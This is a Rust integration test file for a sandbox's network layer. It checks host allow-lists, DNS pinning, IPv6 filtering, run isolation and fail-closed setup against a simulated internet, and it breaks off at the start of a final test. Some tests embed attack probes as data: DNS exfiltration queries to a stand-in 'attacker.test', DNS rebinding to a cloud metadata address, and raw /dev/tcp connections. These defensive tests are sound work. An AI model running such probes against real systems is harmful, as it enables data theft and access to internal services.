//! The network layer against a fake internet: test hosts in a network namespace each test makes
//! (`ip netns add` + veth; band-test's [`band_test::netlab`]), serving DNS and HTTP for invented
//! names. The test hosts' addresses look public (so the layer treats them like the internet) but
//! are routed to the veth, and every lab checks with `ip route get` that they are before any
//! traffic: nothing leaves the machine.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Child, Command};
use std::sync::atomic::Ordering;
use std::time::Duration;

use band::policy::Policy;
use band::proto::{Denial, Layer, RunRequest, Status};
use band_test::netlab::{Answer, At::*, Lab, Spec};
use pretty_assertions::assert_eq;

use super::helpers::*;

/// The suite's fake internet (band-test's lab): hosts 2 ("api") and 3 ("other"), each with an
/// IPv4 and an IPv6 address, HTTP on port 80 of each (and 8080 on api's IPv4), and names for
/// them, plus one name answered with a private and a metadata address (never reachable).
fn internet() -> Lab {
    Spec::new()
        .name("api.example.test", [V4(2), V6(2)])
        .name("a.b.example.test", [V4(2)])
        .name("example.test", [V4(2)])
        .name("secret.example.test", [V4(2)])
        .name("v6.example.test", [V6(2)])
        .name("other.test", [V4(3)])
        .name(
            "rebind.example.test",
            ["10.231.0.9", "169.254.169.254"].map(|a| Answer::Literal(a.into())),
        )
        .listen(V4(2), 80)
        .listen(V4(2), 8080)
        .listen(V4(3), 80)
        .listen(V6(2), 80)
        .listen(V6(3), 80)
        .build()
}

/// Runs through band-server with the lab's config (its resolver as `dns_upstream`).
trait LabRun {
    fn run(&self, req: &RunRequest) -> Outcome;
    fn spawn(&self, req: &RunRequest) -> Child;
}

impl LabRun for Lab {
    fn run(&self, req: &RunRequest) -> Outcome {
        finish(self.spawn(req))
    }

    fn spawn(&self, req: &RunRequest) -> Child {
        spawn_with_config(req, &self.config)
    }
}

fn sh(args: &[&str]) {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e}"));
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn out(args: &[&str]) -> String {
    let o = Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e}"));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn net_policy(allow: &[&str], deny: &[&str]) -> Policy {
    let mut p = policy();
    p.allow.net = strs(allow);
    p.deny.net = strs(deny);
    p.allow.cli = strs(&["curl *", "python3 *"]);
    p
}

fn assert_no_table(o: &Outcome, run_id: &str) {
    let t = format!("band_{run_id}");
    assert!(
        !band_tables().contains(&t),
        "table {t} survived the run; server stderr:\n{}",
        o.server_stderr
    );
}

const PROBE: &str = r#"#!/bin/bash
fetch_curl() { curl -sS -m 5 "$1" 2>&1 | tr '\n' ' '; echo "rc=${PIPESTATUS[0]}"; }
fetch_py() { python3 -c 'import sys,urllib.request
try: print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode().strip())
except Exception as e: print("error", type(e).__name__, e)' "$1" 2>&1 | tail -1; }
fetch_tcp() { ( exec 3<>"/dev/tcp/$1/$2" && printf 'GET /tcp HTTP/1.0\r\nHost: x\r\n\r\n' >&3 && tail -n1 <&3 ) 2>&1 | tr '\n' ' '; }
"#;

#[test]
fn privileged_net_allowed_host_reachable_unlisted_refused_dns_pinned() {
    privileged!();
    let lab = internet();
    let other = lab.v4(3);
    let script = format!(
        "{PROBE}
echo \"curl_ok=$(fetch_curl http://api.example.test/curl)\"
echo \"py_ok=$(fetch_py http://api.example.test/py)\"
echo \"tcp_ok=$(fetch_tcp api.example.test 80)\"
echo \"curl_name=$(fetch_curl http://other.test/)\"
echo \"py_name=$(fetch_py http://other.test/)\"
echo \"tcp_name=$(fetch_tcp other.test 80)\"
echo \"curl_ip=$(fetch_curl http://{other}/ip)\"
echo \"py_ip=$(fetch_py http://{other}/ip)\"
echo \"tcp_ip=$(fetch_tcp {other} 80)\"
echo \"loopback=$(fetch_tcp 127.0.0.1 22)\"
echo \"resolv=$(grep nameserver /etc/resolv.conf)\"
"
    );
    let req = request(&script, net_policy(&["api.example.test"], &[]));
    let o = lab.run(&req);
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    // api.example.test has an A and an AAAA record: clients may pick either.
    let api = [format!("{}:80", lab.v4(2)), format!("[{}]:80", lab.v6(2))];
    let from_api = |text: &str, path: &str| {
        api.iter()
            .any(|a| text.contains(&format!("hello {a} {path}")))
    };
    assert!(from_api(&get("curl_ok"), "/curl"), "{}", get("curl_ok"));
    assert!(get("curl_ok").ends_with("rc=0"));
    assert!(from_api(&get("py_ok"), "/py"), "{}", get("py_ok"));
    assert!(from_api(&get("tcp_ok"), "/tcp"), "{}", get("tcp_ok"));
    // Unlisted name: not resolved (curl 6), urllib gets a resolution error, bash cannot resolve.
    assert!(get("curl_name").ends_with("rc=6"), "{}", get("curl_name"));
    assert!(get("py_name").contains("URLError"), "{}", get("py_name"));
    assert!(!get("tcp_name").contains("hello"), "{}", get("tcp_name"));
    // Raw IP of an unlisted server: refused at once.
    assert!(get("curl_ip").ends_with("rc=7"), "{}", get("curl_ip"));
    assert!(
        get("py_ip").contains("Connection refused") || get("py_ip").contains("ConnectionRefused"),
        "{}",
        get("py_ip")
    );
    assert!(get("tcp_ip").contains("refused"), "{}", get("tcp_ip"));
    assert!(get("loopback").contains("refused"), "{}", get("loopback"));
    assert!(
        get("resolv").starts_with("nameserver 127.77."),
        "{}",
        get("resolv")
    );
    // The fake internet saw only the allowed traffic, and no question about other.test.
    let http = lab.log("http.log");
    assert!(!http.contains(&format!("{other}:80")), "{http}");
    assert_eq!(
        http.lines()
            .filter(|l| api.iter().any(|a| l.starts_with(a.as_str())))
            .count(),
        3,
        "{http}"
    );
    let dns = lab.log("dns.log");
    assert!(dns.contains("api.example.test"), "{dns}");
    assert!(!dns.contains("other.test"), "{dns}");
    // Events and result: the refused name and address are listed.
    assert!(
        o.result.denied.contains(&Denial::Dns {
            name: "other.test".into()
        }),
        "{:#?}",
        o.result.denied
    );
    assert!(
        o.result
            .denied
            .iter()
            .any(|d| matches!(d, Denial::Net { host, port: Some(80), .. } if *host == other)),
        "{:#?}",
        o.result.denied
    );
    let net = o
        .result
        .network
        .clone()
        .unwrap_or_else(|| panic!("no network report"));
    assert!(
        net.contacted
            .iter()
            .any(|f| (f.addr == lab.v4(2) || f.addr == lab.v6(2))
                && f.port == 80
                && f.names == vec!["api.example.test".to_string()]),
        "{net:#?}"
    );
    assert!(
        net.lookups
            .iter()
            .any(|l| l.name == "other.test" && !l.allowed)
    );
    assert_no_table(&o, &req.run_id);
}

/// A name asked again and again is one lookup of the report (per type and verdict), however
/// many times the run asks it (the report held every question).
#[test]
fn privileged_net_a_name_asked_again_is_one_lookup_of_the_report() {
    privileged!();
    let lab = internet();
    let script = r#"#!/bin/bash
python3 - <<'EOF'
import socket
ok = 0
for _ in range(30):
    try:
        socket.getaddrinfo("api.example.test", 80, socket.AF_INET)
        ok += 1
    except OSError:
        pass
    try:
        socket.getaddrinfo("nope.test", 80, socket.AF_INET)
    except OSError:
        pass
print("resolved=%d" % ok)
EOF
"#;
    let req = request(script, net_policy(&["api.example.test"], &[]));
    let o = lab.run(&req);
    assert_eq!(
        o.kv().get("resolved").map(String::as_str),
        Some("30"),
        "{o:#?}"
    );
    let net = o.result.network.clone().unwrap_or_default();
    let asked = |name: &str, allowed: bool| {
        net.lookups
            .iter()
            .filter(|l| l.name == name && l.qtype == "A" && l.allowed == allowed)
            .count()
    };
    assert_eq!(
        (asked("api.example.test", true), asked("nope.test", false)),
        (1, 1),
        "{net:#?}"
    );
    let api = net
        .lookups
        .iter()
        .find(|l| l.name == "api.example.test" && l.qtype == "A")
        .unwrap_or_else(|| panic!("{net:#?}"));
    assert_eq!(api.addrs, vec![lab.v4(2)]);
    // Each refused question is still a denial of the run.
    let refused = o
        .result
        .denied
        .iter()
        .filter(|d| matches!(d, Denial::Dns { name } if name == "nope.test"))
        .count();
    assert!(refused >= 30, "{:#?}", o.result.denied);
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_exfiltration_and_rebinding_are_refused() {
    privileged!();
    let lab = internet();
    let upstream = lab.v4(2);
    let script = format!(
        r#"#!/bin/bash
python3 - <<'EOF'
import random, socket, struct
stub = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def q(name, qtype, server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    qid = random.randrange(65536)
    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    try:
        s.sendto(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + body + struct.pack("!HH", qtype, 1), (server, 53))
        r = s.recv(4096); return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack("!H", r[6:8])[0])
    except Exception as e:
        return "error " + type(e).__name__
label = "a" * 63
print("txt_exfil=" + q(label + ".attacker.test", 16, stub))
print("a_exfil=" + q("c2VjcmV0.attacker.test", 1, stub))
print("txt_allowed=" + q("api.example.test", 16, stub))
print("direct_upstream=" + q("api.example.test", 1, "{upstream}"))
print("rebind=" + q("rebind.example.test", 1, stub))
EOF
curl -sS -m 5 http://rebind.example.test/ >/dev/null 2>&1; echo "curl_rebind=$?"
"#
    );
    let req = request(&script, net_policy(&["*.example.test"], &[]));
    let o = lab.run(&req);
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    assert_eq!(get("txt_exfil"), "rcode=3 answers=0");
    assert_eq!(get("a_exfil"), "rcode=3 answers=0");
    assert_eq!(get("txt_allowed"), "rcode=0 answers=0");
    assert!(
        get("direct_upstream").starts_with("error"),
        "{}",
        get("direct_upstream")
    );
    assert_eq!(get("rebind"), "rcode=0 answers=0");
    assert_eq!(get("curl_rebind"), "6");
    let dns = lab.log("dns.log");
    assert!(!dns.contains("attacker"), "{dns}");
    assert!(
        !dns.contains("api.example.test 16"),
        "TXT went upstream: {dns}"
    );
    let net = o.result.network.clone().unwrap_or_default();
    let rebind = net
        .lookups
        .iter()
        .find(|l| l.name == "rebind.example.test")
        .unwrap_or_else(|| panic!("{net:#?}"));
    assert_eq!(
        rebind.withheld,
        vec!["10.231.0.9".to_string(), "169.254.169.254".to_string()]
    );
    assert!(rebind.addrs.is_empty());
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_wildcard_depth_deny_inside_wildcard_and_ports() {
    privileged!();
    let lab = internet();
    let script = format!(
        "{PROBE}
echo \"deep=$(fetch_curl http://a.b.example.test/)\"
echo \"apex=$(fetch_curl http://example.test/)\"
echo \"secret=$(fetch_curl http://secret.example.test/)\"
echo \"api80=$(fetch_curl http://api.example.test/)\"
echo \"api8080=$(fetch_curl http://api.example.test:8080/)\"
"
    );
    let req = request(
        &script,
        net_policy(&["*.example.test:80"], &["secret.example.test"]),
    );
    let o = lab.run(&req);
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    assert!(get("deep").ends_with("rc=0"), "{}", get("deep"));
    assert!(get("apex").ends_with("rc=6"), "{}", get("apex"));
    assert!(get("secret").ends_with("rc=6"), "{}", get("secret"));
    assert!(get("api80").ends_with("rc=0"), "{}", get("api80"));
    assert!(get("api8080").ends_with("rc=7"), "{}", get("api8080"));
    assert!(!lab.log("http.log").contains(":8080"));
    assert!(!lab.log("dns.log").contains("secret"));
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_ipv6_is_filtered_like_ipv4() {
    privileged!();
    let lab = internet();
    let script = format!(
        "{PROBE}
echo \"v6name=$(fetch_curl http://v6.example.test/)\"
echo \"v6forced=$(fetch_curl -6 http://api.example.test/ 2>&1)\"
echo \"v6raw=$(fetch_curl 'http://[{}]/')\"
echo \"v6loop=$(fetch_curl 'http://[::1]:22/')\"
",
        lab.v6(3)
    );
    let req = request(
        &script,
        net_policy(&["v6.example.test", "api.example.test"], &[]),
    );
    let o = lab.run(&req);
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    assert!(
        get("v6name").contains(&format!("hello [{}]:80", lab.v6(2))),
        "{}",
        get("v6name")
    );
    assert!(get("v6raw").ends_with("rc=7"), "{}", get("v6raw"));
    assert!(get("v6loop").ends_with("rc=7"), "{}", get("v6loop"));
    assert!(!lab.log("http.log").contains(&lab.v6(3)));
    let net = o.result.network.clone().unwrap_or_default();
    assert!(net.denied.iter().any(|f| f.addr == lab.v6(3)), "{net:#?}");
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_concurrent_runs_do_not_share_allowances() {
    privileged!();
    let lab = internet();
    let api = lab.v4(2);
    // Run A learns api.example.test, then holds its allowance for a while.
    let a = request(
        &format!(
            "{PROBE}\necho \"a=$(fetch_curl http://api.example.test/a)\"\nsleep 4\necho \"a2=$(fetch_curl http://{api}/a2)\"\n"
        ),
        net_policy(&["api.example.test"], &[]),
    );
    // Run B may only reach other.test; it tries A's address while A holds it.
    let b = request(
        &format!(
            "{PROBE}\nsleep 1.5\necho \"b=$(fetch_curl http://{api}/b)\"\necho \"bo=$(fetch_curl http://other.test/bo)\"\n"
        ),
        net_policy(&["other.test"], &[]),
    );
    let ca = lab.spawn(&a);
    std::thread::sleep(Duration::from_millis(800));
    // While A runs, its table is in the kernel, matched on its uid only.
    let table = out(&[
        "nft",
        "list",
        "table",
        "inet",
        &format!("band_{}", a.run_id),
    ]);
    assert!(
        table.contains("meta skuid") && table.contains("jump run"),
        "{table}"
    );
    // Run A's stub answers run A only: another user of the host is refused.
    let stub = table
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("ip daddr ")
                .filter(|r| r.contains("skuid != {"))
                .and_then(|r| r.split_whitespace().next())
        })
        .unwrap_or_else(|| panic!("no stub rule in {table}"))
        .to_string();
    let probe = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n\
         try:\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03api\\x07example\\x04test\\x00\\x00\\x01\\x00\\x01', ('{stub}', 53)); s.recv(512); print('answered')\n\
         except OSError as e: print('refused', type(e).__name__)"
    );
    let other_user = out(&[
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "/usr/bin/python3",
        "-c",
        &probe,
    ]);
    assert!(
        other_user.starts_with("refused"),
        "another user reached run A's stub: {other_user}"
    );
    let cb = lab.spawn(&b);
    let (oa, ob) = (finish(ca), finish(cb));
    let get = |o: &Outcome, k: &str| {
        o.kv()
            .get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    assert!(get(&oa, "a").ends_with("rc=0"), "{oa:#?}");
    assert!(get(&oa, "a2").ends_with("rc=0"), "{oa:#?}");
    assert!(get(&ob, "b").ends_with("rc=7"), "{ob:#?}");
    assert!(get(&ob, "bo").ends_with("rc=0"), "{ob:#?}");
    assert!(!lab.log("http.log").contains(" /b\n"));
    assert_no_table(&oa, &a.run_id);
    assert_no_table(&ob, &b.run_id);
}

#[test]
fn privileged_net_a_leftover_process_cannot_use_a_later_allowance() {
    privileged!();
    let lab = internet();
    let api = lab.v4(2);
    // The first run has no network; a daemonised child keeps trying the server after the run.
    let mut p = policy();
    p.allow.cli = strs(&["curl *", "setsid *", "nohup *"]);
    let first = request(
        &format!(
            "#!/bin/bash\nsetsid bash -c 'for i in $(seq 1 40); do curl -s -m 1 http://{api}/leftover; sleep 0.1; done' </dev/null >/dev/null 2>&1 &\necho started\n"
        ),
        p,
    );
    let o1 = lab.run(&first);
    assert_eq!(o1.result.status, Status::Ok, "{o1:#?}");
    // A later run that may reach the server, started at once.
    let second = request(
        &format!("{PROBE}\necho \"s=$(fetch_curl http://api.example.test/second)\"\nsleep 2\n"),
        net_policy(&["api.example.test"], &[]),
    );
    let o2 = lab.run(&second);
    assert!(
        o2.kv().get("s").is_some_and(|s| s.ends_with("rc=0")),
        "{o2:#?}"
    );
    std::thread::sleep(Duration::from_millis(500));
    let http = lab.log("http.log");
    assert!(
        !http.contains("/leftover"),
        "a leftover process reached the server: {http}"
    );
    assert!(http.contains("/second"));
    assert_no_table(&o2, &second.run_id);
}

#[test]
fn privileged_net_insist_satisfied_and_unsatisfied() {
    privileged!();
    let lab = internet();
    let mut p = net_policy(&["other.test"], &[]);
    p.insist.net = strs(&["api.example.test:80"]);
    let ok = request(
        &format!("{PROBE}\nfetch_curl http://api.example.test/insist >/dev/null\n"),
        p.clone(),
    );
    let o = lab.run(&ok);
    assert_eq!(o.result.status, Status::Ok, "{o:#?}");
    assert!(o.result.insist_missing.is_empty());
    // Resolving is not enough: the run must reach the address.
    let resolved_only = request(
        "#!/bin/bash\npython3 -c 'import socket; socket.getaddrinfo(\"api.example.test\", 80)'\n",
        p.clone(),
    );
    let o = lab.run(&resolved_only);
    assert_eq!(o.result.status, Status::InsistUnsatisfied, "{o:#?}");
    assert_eq!(
        o.result.insist_missing,
        vec!["net: api.example.test:80".to_string()]
    );
    let nothing = request(
        &format!("{PROBE}\nfetch_curl http://other.test/ >/dev/null\n"),
        p,
    );
    let o = lab.run(&nothing);
    assert_eq!(o.result.status, Status::InsistUnsatisfied, "{o:#?}");
    assert_no_table(&o, &nothing.run_id);
}

#[test]
fn privileged_net_table_removed_mid_run_kills_the_run() {
    privileged!();
    let lab = internet();
    let req = request(
        // Only a kill ends the script.
        "#!/bin/bash\necho started\nsleep infinity\necho survived\n",
        net_policy(&["api.example.test"], &[]),
    );
    let child = lab.spawn(&req);
    let table = format!("band_{}", req.run_id);
    band_test::wait_until("the run's table appears", || band_tables().contains(&table));
    std::thread::sleep(Duration::from_millis(300));
    sh(&["nft", "delete", "table", "inet", &table]);
    let o = finish(child);
    assert_eq!(o.result.status, Status::SetupFailed, "{o:#?}");
    assert_eq!(
        o.result.error.as_ref().map(|e| e.layer.clone()),
        Some(Layer::Network)
    );
    assert!(!o.result.stdout.contains("survived"));
}

/// A server config in `dir` whose nft is missing; its resolver a dead loopback port (nothing is
/// asked: a networked run fails before).
fn config_without_nft(dir: &Path) -> std::path::PathBuf {
    let cfg = dir.join("server.toml");
    fs_err::write(
        &cfg,
        "nft = \"/nonexistent/nft\"\ndns_upstream = [\"127.0.0.1:9\"]\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    cfg
}

/// A networked run under `cfg` (from [`config_without_nft`]) in the state directory `state`: it
/// fails closed in the network layer, naming the missing nft, before its script printed.
fn run_without_nft(cfg: &Path, state: &Path) -> RunRequest {
    let req = request(
        "#!/bin/bash\necho ran\n",
        net_policy(&["api.example.test"], &[]),
    );
    let line = serde_json::to_string(&band::proto::Message::Request(Box::new(req.clone())))
        .unwrap_or_else(|e| panic!("{e}"));
    let o = finish(spawn_line_in(&line, cfg, state));
    assert_eq!(o.result.status, Status::SetupFailed, "{o:#?}");
    let e = o.result.error.clone().unwrap_or_else(|| panic!("no error"));
    assert_eq!(e.layer, Layer::Network, "{e:?}");
    assert!(e.message.contains("/nonexistent/nft"), "{}", e.message);
    assert!(!o.result.stdout.contains("ran"));
    req
}

#[test]
fn privileged_net_no_resolver_or_no_nft_fails_closed() {
    privileged!();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    // A state directory of its own: every server's start cleans the dead leases of its state
    // directory, and one without nft would clear a dead run's lease but leave its table (the
    // kill -9 tests' runs, in the shared one, then keep theirs). Uids stay apart across state
    // directories (each is locked host-wide while leased).
    let state = OwnStateDir::new("band-test-no-nft-");
    run_without_nft(&config_without_nft(dir.path()), state.path());
}

/// The run's cgroup is made on a thread of its own, beside the programs and the run directory,
/// and waited for just before the spawn. A run that fails in between (here in the network
/// layer: no nft) still leaves nothing of it: no directory in any hierarchy, no mark.
#[test]
fn privileged_a_run_that_fails_while_its_cgroup_is_made_leaves_no_cgroup() {
    privileged!();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config_without_nft(dir.path());
    let h = band_server::layers::cgroup::Hierarchy::detect_system()
        .unwrap_or_else(|e| panic!("no cgroup hierarchy: {e}"));
    let state = OwnStateDir::new("band-test-cgroup-thread-");
    for _ in 0..5 {
        let req = run_without_nft(&cfg, state.path());
        let dirs = band_server::layers::cgroup::RunCgroup::open(&h, &req.run_id)
            .unwrap_or_else(|e| panic!("{e}"))
            .dirs();
        assert!(!dirs.is_empty());
        for d in dirs {
            assert!(!d.exists(), "{} is left", d.display());
        }
        assert_eq!(
            band_server::layers::cgroup::list_marks(state.path()),
            Vec::<String>::new()
        );
    }
}

/// A run whose relay is `relay` (as `slirp4netns` in the server's config): it must fail closed,
/// in the network layer, with an error that contains `says`, before its script printed anything.
fn run_with_failing_relay(relay: &str, says: &str, script: &str) -> (RunRequest, Outcome) {
    let lab = internet();
    let cfg = lab.dir().join("relay.toml");
    fs_err::write(
        &cfg,
        format!(
            "slirp4netns = \"{relay}\"\ndns_upstream = [\"{}:53\"]\n",
            lab.v4(2)
        ),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let req = request(script, net_policy(&["api.example.test"], &[]));
    let o = finish(spawn_with_config(&req, &cfg));
    assert_eq!(o.result.status, Status::SetupFailed, "{o:#?}");
    let e = o.result.error.clone().unwrap_or_else(|| panic!("no error"));
    assert_eq!(e.layer, Layer::Network);
    assert!(e.message.contains(says), "{}", e.message);
    assert!(!o.result.stdout.contains("ran"), "{}", o.result.stdout);
    (req, o)
}

#[test]
fn privileged_net_no_relay_fails_closed() {
    privileged!();
    let (req, o) = run_with_failing_relay(
        "/nonexistent/slirp4netns",
        "/nonexistent/slirp4netns",
        "#!/bin/bash\necho ran\n",
    );
    // The table built before the relay failed is gone.
    assert_no_table(&o, &req.run_id);
}

/// The relay starts while bubblewrap builds the sandbox, and is waited for before the jail's
/// input is written: a relay that starts and then fails (here one that exits at once, without
/// its ready byte) fails the run after bubblewrap started, and still the script never runs and
/// nothing of the run is left.
#[test]
fn privileged_net_a_relay_that_never_gets_ready_fails_closed_after_bubblewrap_started() {
    privileged!();
    let (req, o) = run_with_failing_relay(
        "/bin/false",
        "/bin/false did not set up the run's network",
        "#!/bin/bash\necho ran\necho ran > /workspace/ran\n",
    );
    assert!(o.result.written.is_empty(), "{o:#?}");
    assert_no_table(&o, &req.run_id);
    for dir in [
        state_dir().join("runs").join(&req.run_id),
        state_dir().join("exec/runs").join(&req.run_id),
    ] {
        assert!(!dir.exists(), "{} survived the run", dir.display());
    }
    let mounts = fs_err::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    assert!(!mounts.contains(&req.run_id), "a mount of the run survived");
}

#[test]
fn privileged_net_kill9_mid_run_then_the_janitor_removes_the_table() {
    privileged!();
    let lab = internet();
    let req = request(
        "#!/bin/bash\nsleep 1000\n",
        net_policy(&["api.example.test"], &[]),
    );
    let mut child = lab.spawn(&req);
    let table = format!("band_{}", req.run_id);
    band_test::wait_until("the run's table appears", || band_tables().contains(&table));
    std::thread::sleep(Duration::from_millis(300));
    child.kill().unwrap_or_else(|e| panic!("{e}"));
    let _ = child.wait();
    // The dead server's table is still there: its run's uid stays filtered until the janitor.
    assert!(band_tables().contains(&table));
    // The janitor pass before the next run finds the dead lease and deletes its table by name.
    // (When tests run in parallel, another test's server may be the one cleaning that lease at
    // that moment: this server then sees its lock held and leaves it to that one, which deletes
    // the table a moment later. So wait a bounded while; nothing else deletes it.)
    let next = lab.run(&request("#!/bin/sh\necho ok\n", policy()));
    band_test::wait_until(
        &format!("a janitor removes {table}: {}", next.server_stderr),
        || !band_tables().contains(&table),
    );
    // `band-server janitor` also sweeps tables no lease names at all.
    let orphan = "band_0000deadbeef0000";
    sh(&["nft", "add", "table", "inet", orphan]);
    let out = run_janitor(Some(lab.config.as_ref()));
    assert!(
        !band_tables().contains(orphan),
        "janitor left {orphan}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn privileged_net_host_abstract_unix_sockets_are_out_of_reach() {
    privileged!();
    let lab = internet();
    // A host service on an abstract unix socket. The run has a network namespace of its own,
    // hence its own abstract names: the host's name does not exist there (before, when the run
    // shared the host's namespace, only Landlock's scope stopped the connect: PermissionError).
    let name = format!("band-test-{}", run_id());
    let listener = std::os::unix::net::UnixListener::bind_addr(
        &<std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(name.as_bytes())
            .unwrap_or_else(|e| panic!("{e}")),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    listener
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("{e}"));
    let script = format!(
        "#!/bin/bash\npython3 -c '
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(\"\\0{name}\"); print(\"abstract=connected\")
except OSError as e:
    print(\"abstract=\" + type(e).__name__)
'\n"
    );
    let req = request(&script, net_policy(&["api.example.test"], &[]));
    let o = lab.run(&req);
    assert_eq!(
        o.kv().get("abstract").map(String::as_str),
        Some("ConnectionRefusedError"),
        "{o:#?}"
    );
    assert!(
        listener.accept().is_err(),
        "the sandbox reached a host abstract socket"
    );
}

/// Wait until the run's table exists (the network layer is being built), or panic.
fn wait_for_table(run_id: &str) {
    let table = format!("band_{run_id}");
    band_test::wait_until("the run's table appears", || band_tables().contains(&table));
}

#[test]
fn privileged_net_the_run_has_its_own_sockets_names_and_interfaces() {
    privileged!();
    let lab = internet();
    let id = run_id();
    // On the host: an abstract unix listener and a loopback TCP listener, both recognisable.
    let host_name = format!("band-host-{id}");
    let run_name = format!("band-run-{id}");
    let abstract_addr = |n: &str| {
        <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
            n.as_bytes(),
        )
        .unwrap_or_else(|e| panic!("{e}"))
    };
    let host_unix = std::os::unix::net::UnixListener::bind_addr(&abstract_addr(&host_name))
        .unwrap_or_else(|e| panic!("{e}"));
    host_unix
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("{e}"));
    let host_tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = host_tcp
        .local_addr()
        .unwrap_or_else(|e| panic!("{e}"))
        .port();
    // In the run: try the host's name, bind a name of its own and keep it open a while (counting
    // connections from outside), read its socket tables and list its interfaces (netlink).
    let script = format!(
        r#"#!/bin/bash
python3 - <<'EOF'
import socket, time
def connect(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + name); return "connected"
    except OSError as e:
        return type(e).__name__
print("to_host=" + connect("{host_name}"))
l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
l.bind("\0{run_name}"); l.listen(16)
print("own=" + connect("{run_name}"))
l.accept()[0].close()
l.settimeout(0.1)
outside = 0
end = time.time() + 3
while time.time() < end:
    try:
        l.accept()[0].close(); outside += 1
    except socket.timeout:
        pass
print("accepted_from_outside=%d" % outside)
tcp = ""
for f in ("/proc/net/tcp", "/proc/net/tcp6"):
    try: tcp += open(f).read()
    except OSError: pass
port = ":%04X" % {port}
print("host_tcp_seen=%d" % any(len(l.split()) > 1 and l.split()[1].endswith(port) for l in tcp.splitlines()))
unix = open("/proc/net/unix").read()
print("host_unix_seen=%d" % ("@{host_name}" in unix))
print("own_unix_seen=%d" % ("@{run_name}" in unix))
print("ifaces=" + ",".join(sorted(n for _, n in socket.if_nameindex())))
EOF
"#
    );
    let req = request(&script, net_policy(&["api.example.test"], &[]));
    let child = lab.spawn(&req);
    // From the host, keep trying the run's name while it runs.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let prober = {
        let stop = stop.clone();
        let addr = abstract_addr(&run_name);
        std::thread::spawn(move || {
            let mut connected = 0;
            while !stop.load(Ordering::SeqCst) {
                if std::os::unix::net::UnixStream::connect_addr(&addr).is_ok() {
                    connected += 1;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            connected
        })
    };
    let o = finish(child);
    stop.store(true, Ordering::SeqCst);
    let host_connected = prober
        .join()
        .unwrap_or_else(|_| panic!("the prober panicked"));
    let kv = o.kv();
    let get = |k: &str| {
        kv.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("no {k} in {o:#?}"))
    };
    // Every expectation at once, so a failure shows all that is wrong.
    let mut wrong = Vec::new();
    let mut expect = |what: &str, got: String, want: &str| {
        if got != want {
            wrong.push(format!("{what}: {got} (want {want})"));
        }
    };
    // Abstract names: each side has its own; neither reaches the other's.
    expect("run → host name", get("to_host"), "ConnectionRefusedError");
    expect("run → own name", get("own"), "connected");
    expect(
        "host → run name (accepted inside)",
        get("accepted_from_outside"),
        "0",
    );
    expect(
        "host → run name (connected outside)",
        host_connected.to_string(),
        "0",
    );
    expect(
        "host's listener accepted",
        host_unix.accept().is_ok().to_string(),
        "false",
    );
    // Socket tables and netlink show the run's namespace only.
    expect("host port in /proc/net/tcp*", get("host_tcp_seen"), "0");
    expect("host name in /proc/net/unix", get("host_unix_seen"), "0");
    expect("own name in /proc/net/unix", get("own_unix_seen"), "1");
    expect("interfaces (netlink)", get("ifaces"), "lo,tap0");
    assert_eq!(wrong, Vec::<String>::new(), "{o:#?}");
    drop(host_tcp);
    assert_no_table(&o, &req.run_id);
}

#[test]
fn privileged_net_the_relay_does_not_lead_to_the_host_loopback() {
    privileged!();
    let lab = internet();
    // Host services on loopback, IPv4 and IPv6, on one port.
